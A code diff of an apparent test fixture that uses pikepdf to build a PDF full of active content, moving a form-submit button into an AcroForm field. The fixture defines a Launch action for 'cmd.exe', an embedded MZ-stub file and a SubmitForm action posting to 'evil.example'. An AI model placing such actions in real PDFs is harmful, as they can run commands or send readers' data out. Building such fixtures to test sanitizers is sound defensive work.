@@ -111,11 +111,13 @@ def pdf_with_everything_active() -> bytes:
                 EF=pikepdf.Dictionary(F=pdf.make_stream(b"MZ" + MARKER))))])))
     launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
     submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
+    widget = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget,
+                                                  FT=pikepdf.Name.Btn, T=pikepdf.String("send"),
+                                                  Rect=[0, 0, 9, 9], A=submit))
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))
     pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([
         pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
-                                             Rect=[0, 0, 9, 9], A=launch)),
-        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget,
-                                             Rect=[0, 0, 9, 9], A=submit))]))
+                                             Rect=[0, 0, 9, 9], A=launch)), widget]))
     buffer = io.BytesIO()
     pdf.save(buffer)
     return buffer.getvalue()
